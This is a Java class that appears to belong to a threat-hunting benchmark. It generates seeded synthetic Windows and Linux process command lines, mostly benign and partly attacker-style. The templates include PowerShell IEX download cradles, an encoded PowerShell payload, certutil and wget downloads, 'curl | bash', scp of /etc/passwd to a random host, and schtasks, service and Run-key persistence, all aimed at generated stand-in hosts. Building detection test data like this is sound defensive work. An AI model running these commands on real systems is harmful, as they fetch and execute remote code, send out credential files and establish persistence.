package dev.hunt4j.benchmarks;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Random;

/**
 * A seeded generator of realistic process command lines, Windows and Linux: mostly benign (service hosts, browsers
 * with long switch lists, Office, scripts, interpreters) with about a third carrying indicators (download
 * cradles, certutil, ping/nslookup, curl|bash, UNC paths, hash-named DLLs, defanged URLs) and about 2% with a
 * PowerShell {@code -EncodedCommand} payload. The same seed always gives the same lines.
 */
public final class CommandLines {
    private static final String[] WORDS = {"update", "secure", "login", "cdn", "mail", "files", "portal", "sync", "api",
        "static", "cloud", "office", "support", "account", "verify", "service", "global", "track"};
    private static final String[] TLDS = {"com", "net", "org", "ru", "io", "info", "xyz", "top", "co.uk", "de", "cc"};
    private static final String[] USERS = {"bob", "alice", "svc_sql", "Administrator", "j.smith", "MSTICAdmin"};
    private static final String[] FILES = {"payload.exe", "update.ps1", "stage2.dll", "invoice.hta", "a.sh", "run.bat", "x.vbs"};
    private static final String[] BENIGN = {
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
        "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",
        "\"C:\\Windows\\system32\\cscript.exe\" /nologo \"MonitorKnowledgeDiscovery.vbs\"",
        "/usr/bin/python3 /opt/app/manage.py runserver 0.0.0.0:8000",
        "/bin/bash -c cd /var/www/html && git pull origin main",
        "powershell.exe -ExecutionPolicy Bypass -File C:\\ProgramData\\Scripts\\inventory.ps1",
        "C:\\Windows\\system32\\msiexec.exe /V",
        "java -Xmx2g -jar /opt/service/app-2.3.1.jar --spring.profiles.active=prod",
        "node /srv/app/server.js --port 3000",
        "C:\\Windows\\sysWOW64\\wbem\\wmiprvse.exe -secured -Embedding",
        "sshd: ubuntu [priv]",
        "/usr/sbin/cron -f",
        "C:\\Windows\\System32\\svchost.exe -k WerSvcGroup",
        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\bob\\Documents\\Q3 report.docx\"",
    };

    private final Random r;

    public CommandLines(long seed) {
        this.r = new Random(seed);
    }

    private <T> T pick(T[] a) {
        return a[r.nextInt(a.length)];
    }

    private String label() {
        StringBuilder sb = new StringBuilder();
        int n = 4 + r.nextInt(8);
        for (int i = 0; i < n; i++) {
            sb.append((char) (r.nextInt(6) == 0 ? '0' + r.nextInt(10) : 'a' + r.nextInt(26)));
        }
        return sb.toString();
    }

    private String domain() {
        return (r.nextInt(3) == 0 ? pick(WORDS) + "." : "") + label() + "." + pick(TLDS);
    }

    private String ip() {
        return (1 + r.nextInt(223)) + "." + r.nextInt(256) + "." + r.nextInt(256) + "." + (1 + r.nextInt(254));
    }

    private String hex(int len) {
        StringBuilder sb = new StringBuilder(len);
        for (int i = 0; i < len; i++) {
            sb.append(Character.forDigit(r.nextInt(16), 16));
        }
        return sb.toString();
    }

    private String chrome() {
        return "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --field-trial-handle="
                + r.nextInt(9999) + ",i," + r.nextInt(99999) + " --lang=en-US --renderer-client-id=" + r.nextInt(200)
                + " --mojo-platform-channel-handle=" + r.nextInt(9999) + " /prefetch:1";
    }

    /** The next command line. */
    public String next() {
        int k = r.nextInt(100);
        if (k < 60) {
            return pick(BENIGN);
        }
        if (k < 67) {
            return chrome();
        }
        return switch (r.nextInt(13)) {
            case 0 -> "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://" + domain() + "/" + pick(FILES) + "')\"";
            case 1 -> "certutil -urlcache -split -f http://" + ip() + "/" + pick(FILES) + " C:\\Users\\Public\\" + pick(FILES);
            case 2 -> "cmd /c ping -n 1 " + ip() + " && nslookup " + domain();
            case 3 -> "curl -s http://" + ip() + ":" + (1024 + r.nextInt(60000)) + "/" + pick(FILES) + " | bash";
            case 4 -> "rundll32.exe C:\\Users\\" + pick(USERS) + "\\AppData\\Local\\Temp\\" + hex(32) + ".dll,Start";
            case 5 -> "wget -q https://" + domain() + "/" + pick(WORDS) + "/" + label() + " -O /tmp/." + label();
            case 6 -> "net use \\\\" + ip() + "\\c$ /user:" + pick(USERS);
            case 7 -> "mshta hxxp://" + domain().replace(".", "[.]") + "/" + pick(FILES);
            case 8 -> "sc create " + label() + " binPath= C:\\Windows\\Temp\\" + hex(8) + ".exe start= auto";
            case 9 -> "Invoke-WebRequest -Uri https://" + domain() + "/" + label() + ".zip -OutFile $env:TEMP\\" + label() + ".zip; Get-FileHash -Algorithm SHA256 " + hex(64);
            case 10 -> "scp /etc/passwd " + pick(USERS).toLowerCase() + "@" + ip() + ":/tmp/" + label();
            case 11 -> r.nextInt(4) == 0 ? encoded() : "schtasks /create /tn " + label() + " /tr \"powershell -w hidden -f C:\\ProgramData\\" + label() + ".ps1\" /sc minute";
            default -> "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v " + label() + " /d \"C:\\Users\\" + pick(USERS) + "\\AppData\\Roaming\\" + label() + ".exe\"";
        };
    }

    /** {@code powershell -enc} with a UTF-16LE script that downloads from a generated host. */
    public String encoded() {
        String script = "IEX (New-Object Net.WebClient).DownloadString('http://" + domain() + "/" + pick(FILES) + "')";
        return "powershell.exe -NoP -NonI -W Hidden -Enc " + Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
    }

    /** Lines joined by newlines until the text is at least {@code chars} long. */
    public String text(int chars) {
        StringBuilder sb = new StringBuilder(chars + 512);
        while (sb.length() < chars) {
            sb.append(next()).append('\n');
        }
        return sb.toString();
    }
}
